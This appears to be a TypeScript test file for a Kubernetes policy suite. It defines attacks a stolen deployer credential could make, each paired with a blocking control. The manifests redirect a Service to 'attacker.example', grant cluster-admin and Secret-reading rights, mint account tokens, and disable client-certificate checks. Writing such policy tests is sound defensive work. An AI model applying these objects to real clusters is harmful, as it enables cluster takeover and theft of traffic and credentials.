/** Attacks by objects beside the workloads, with the credentials of the deployer. */
import type { Manifest } from '../../../src/kubernetes/manifest';
import { altered, applied } from './altered';
import type { Attack } from './attack';
import { policy } from './controls';

const nginx = 'metadata.annotations[nginx.ingress.kubernetes.io/';

/** An object of another kind, with the labels of the API's. */
function like(apiVersion: string, kind: string, name: string, rest: object, namespace = 'api'): Manifest {
  const { labels = {} } = altered(`Service ${namespace}/${namespace}`, {}).metadata;
  return { apiVersion, kind, metadata: { name, namespace, labels }, ...rest } as Manifest;
}

const rbac = 'rbac.authorization.k8s.io';
const issuer = (name: string) => ({ group: 'cert-manager.io', kind: 'ClusterIssuer', name });

/** A request of no service, by a key that was thrown away. */
const signingRequest = `-----BEGIN CERTIFICATE REQUEST-----
MIHKMHICAQAwEDEOMAwGA1UEAwwFYWRkZWQwWTATBgcqhkjOPQIBBggqhkjOPQMB
BwNCAASORnkJV9v/Oq9o15extLQvDHFRVRGcHZY9oh7KA20fpqYeDWThxVFtAc+3
Bc0HF8gfTmgCfRcOQy7DNPmAZf64oAAwCgYIKoZIzj0EAwIDSAAwRQIgJ2zMIC0m
fpXzpLReyzlzHdbNNBomtxpo1u7NcGqc/q4CIQDQb0iSnU5z1zNJ3oIXuqLg0e8l
405Seyd1VM95zu1wqA==
-----END CERTIFICATE REQUEST-----
`;

interface Try {
  readonly id: string;
  readonly name: string;
  readonly gains: string;
  readonly objects: () => readonly Manifest[];
}

const tries: readonly Try[] = [
  {
    id: 'service-exposure',
    name: 'a Service on a port of every node',
    gains: 'the API without the front door',
    objects: () => [altered('Service api/api', { 'spec.type': 'NodePort' })],
  },
  {
    id: 'service-exposure',
    name: 'a Service that is a name outside',
    gains: 'callers of the API, sent to a host of the attacker',
    objects: () => [
      altered('Service api/api', {
        'spec.type': 'ExternalName',
        'spec.externalName': 'attacker.example',
        'spec.clusterIP': undefined,
      }),
    ],
  },
  {
    id: 'declared-port',
    name: 'metrics behind the port of a Service',
    gains: 'figures of the service, for all who may call it',
    objects: () => [altered('Service api/api', { 'spec.ports[0].targetPort': 'metrics' })],
  },
  {
    id: 'endpoints-by-controllers',
    name: 'addresses of a Service, written by a person',
    gains: 'callers of the front door, sent to a host of the attacker',
    objects: () => [
      like('discovery.k8s.io/v1', 'EndpointSlice', 'api-added', {
        addressType: 'IPv4',
        endpoints: [{ addresses: ['203.0.113.10'] }],
        ports: [{ port: 80, protocol: 'TCP', name: 'http' }],
      }),
    ],
  },
  {
    id: 'ingress-exposure',
    name: 'lines of configuration for the front door',
    gains: 'the front door, with the certificates of every host',
    objects: () => [altered('Ingress api/api', { [`${nginx}configuration-snippet]`]: 'return 200;' })],
  },
  {
    id: 'declared-entry',
    name: 'the host of another service',
    gains: 'the requests of its callers, with their headers',
    objects: () => [altered('Ingress web/web', { 'spec.rules[0].host': 'api.lab.breakwater.example' })],
  },
  {
    id: 'declared-entry',
    name: 'the users API without certificates of callers',
    gains: 'every user',
    objects: () => [altered('Ingress api/api', { [`${nginx}auth-tls-verify-client]`]: 'off' })],
  },
  {
    id: 'declared-entry',
    name: 'the users API for the whole world',
    gains: 'every address as a caller',
    objects: () => [altered('Ingress api/api', { [`${nginx}whitelist-source-range]`]: '0.0.0.0/0' })],
  },
  {
    id: 'network-policy-peers',
    name: 'a NetworkPolicy that lets all in and out',
    gains: 'every pod and host',
    objects: () => [altered('NetworkPolicy api/api', { 'spec.egress': [{}], 'spec.ingress': [{}] })],
  },
  {
    id: 'declared-peers',
    name: 'a flow to a service that the API does not call',
    gains: 'a service more to attack from the API',
    objects: () => [
      altered('NetworkPolicy api/api', {
        'spec.egress[0].to': [
          {
            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'backup-store' } },
            podSelector: { matchLabels: { 'app.kubernetes.io/name': 'backup-store' } },
          },
        ],
      }),
    ],
  },
  {
    id: 'binding-parties',
    name: 'all rights for the account of a pod',
    gains: 'the cluster',
    objects: () => [
      like(`${rbac}/v1`, 'RoleBinding', 'added', {
        roleRef: { apiGroup: rbac, kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'ServiceAccount', name: 'api', namespace: 'api' }],
      }),
    ],
  },
  {
    id: 'role-rights',
    name: 'a role that reads Secrets and enters pods',
    gains: 'keys, and processes',
    objects: () => [
      like(`${rbac}/v1`, 'Role', 'added', {
        rules: [
          { apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] },
          { apiGroups: [''], resources: ['pods/exec'], verbs: ['create'] },
        ],
      }),
    ],
  },
  {
    id: 'declared-certificate',
    name: 'a certificate of a member of the database, for the API',
    gains: 'all rights on the database',
    objects: () => [altered('Certificate api/mongo-client', { 'spec.subject.organizationalUnits': ['mongo-members'] })],
  },
  {
    id: 'declared-certificate',
    name: 'a certificate authority below ours',
    gains: 'every certificate there is',
    objects: () => [altered('Certificate api/mongo-client', { 'spec.isCA': true, 'metadata.name': 'mongo-client' })],
  },
  {
    id: 'certificate-request',
    name: 'a request for a certificate, past the Certificate',
    gains: 'the certificate of any server',
    objects: () => [
      like('cert-manager.io/v1', 'CertificateRequest', 'added', {
        spec: { issuerRef: issuer('internal'), request: Buffer.from(signingRequest).toString('base64') },
      }),
    ],
  },
  {
    id: 'environment-match',
    name: 'the settings of production in lab',
    gains: 'addresses and rules of another environment',
    objects: () => [
      altered('ConfigMap api/environment', { 'metadata.name': 'added', 'metadata.labels.env': 'production' }),
    ],
  },
  {
    id: 'environment-fixed',
    name: 'a namespace that becomes one of production',
    gains: 'policies of another environment',
    objects: () => [altered('Namespace api', { 'metadata.labels.env': 'production' })],
  },
  {
    id: 'pod-security-level',
    name: 'a namespace that takes privileged pods',
    gains: 'the node, by the next pod',
    objects: () => [altered('Namespace api', { 'metadata.labels[pod-security.kubernetes.io/enforce]': 'privileged' })],
  },
  {
    id: 'volume-claim',
    name: 'a copy of the volume of the database',
    gains: 'every user',
    objects: () => [
      like(
        'v1',
        'PersistentVolumeClaim',
        'copy',
        {
          spec: {
            accessModes: ['ReadWriteOnce'],
            dataSource: { kind: 'PersistentVolumeClaim', name: 'data-mongo-0' },
            resources: { requests: { storage: '1Gi' } },
          },
        },
        'mongo',
      ),
    ],
  },
  {
    id: 'secret-type',
    name: 'a Secret that becomes a token of an account',
    gains: 'the API server, for ever',
    objects: () => [
      {
        ...like('v1', 'Secret', 'added', { type: 'kubernetes.io/service-account-token' }),
        metadata: {
          ...like('v1', 'Secret', 'added', {}).metadata,
          annotations: { 'kubernetes.io/service-account.name': 'api' },
        },
      },
    ],
  },
  {
    id: 'immutable-config-map',
    name: 'settings that can be changed while pods run',
    gains: 'a change that no roll-out shows',
    objects: () => [altered('ConfigMap api/environment', { 'metadata.name': 'added', immutable: undefined })],
  },
];

export const objectAttacks: readonly Attack[] = tries.map(({ gains, id, name, objects }) => ({
  name,
  from: 'a stolen deployer',
  gains,
  control: policy(id),
  attempt: () => applied(...objects()),
}));
